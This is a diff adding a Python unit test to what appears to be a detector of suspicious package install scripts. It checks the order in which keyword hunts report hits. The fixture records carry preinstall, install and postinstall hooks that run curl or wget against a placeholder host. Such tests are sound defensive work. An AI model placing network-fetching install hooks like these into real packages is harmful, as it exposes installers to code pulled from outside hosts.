@@ -261,6 +261,21 @@ def test_keyword_hunt_subset_of_w2_and_classification():
     assert {h.package for h in hits} <= w2
 
 
+def test_keyword_hunt_hits_come_in_package_then_script_key_order():
+    corpus = make_corpus(
+        [
+            make_record("zeta", scripts={"preinstall": "wget http://a.b/x", "postinstall": "curl http://a.b/y"}),
+            make_record("alpha", scripts={"install": "curl http://a.b/z"}),
+        ]
+    )
+    hits = keyword_hunt(corpus, AnalyzerConfig().resolved(corpus))
+    assert [(h.package, h.script_key) for h in hits] == [
+        ("alpha", "install"),
+        ("zeta", "postinstall"),
+        ("zeta", "preinstall"),
+    ]
+
+
 def test_keyword_hunt_subset_property_on_random_corpora():
     for seed in range(6):
         corpus = random_corpus(seed=seed, size=100)
